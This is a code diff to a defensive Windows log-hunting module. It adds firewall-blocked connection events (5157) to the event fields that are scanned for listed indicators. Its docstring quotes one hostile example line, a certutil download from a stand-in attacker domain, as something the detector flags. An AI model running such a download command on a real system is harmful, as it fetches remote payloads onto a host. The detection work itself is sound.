@@ -5,7 +5,8 @@ The same values the web logs are searched for (`exhunt.analyzers.web_indicators`
 line that downloads from a listed domain (`certutil -urlcache -f http://cdn.evil.example/a`), a
 script block naming a listed address, a logon from one (4624 by RDP or SMB, a failed 4625, an
 explicit-credential 4648), a connection to or from one (Sysmon 3, Windows Filtering Platform
-5156), a DNS query for a name under a listed domain (Sysmon 22).
+5156, and 5157 when the platform blocked it), a DNS query for a name under a listed domain
+(Sysmon 22).
 
 Process starts, script blocks and 4648 are read in full by other detectors anyway. Logons,
 connections and queries are the bulk of a server's Security and Sysmon logs and no detector
@@ -44,13 +45,16 @@ VALUE_FIELDS: dict[tuple[str, int], tuple[str, ...]] = {
     ("security", 4624): ("IpAddress", "WorkstationName"),
     ("security", 4625): ("IpAddress", "WorkstationName"),
     ("security", 5156): ("SourceAddress", "DestAddress"),
+    ("security", 5157): ("SourceAddress", "DestAddress"),  # the same connection, blocked
     ("sysmon", 3): ("SourceIp", "DestinationIp", "SourceHostname", "DestinationHostname"),
     ("sysmon", 22): ("QueryName",),
 }
 # a field naming a host, and the field holding that host's address in the same event
 ADDRESS_OF_NAME = {"DestinationHostname": "DestinationIp", "SourceHostname": "SourceIp", "WorkstationName": "IpAddress"}
 # Read by no other detector: an EVTX record of these is decoded only when `TextCheck` says so.
-SKIMMED = frozenset({("security", 4624), ("security", 4625), ("security", 5156), ("sysmon", 3), ("sysmon", 22)})
+SKIMMED = frozenset(
+    {("security", 4624), ("security", 4625), ("security", 5156), ("security", 5157), ("sysmon", 3), ("sysmon", 22)}
+)
 # keyed as `family` and the event id come (either may be None: no entry then)
 _FIELDS: dict[tuple[str | None, int | None], tuple[tuple[str, ...], tuple[str, ...]]] = {
     key: (TEXT_FIELDS.get(key, ()), VALUE_FIELDS.get(key, ())) for key in TEXT_FIELDS.keys() | VALUE_FIELDS.keys()
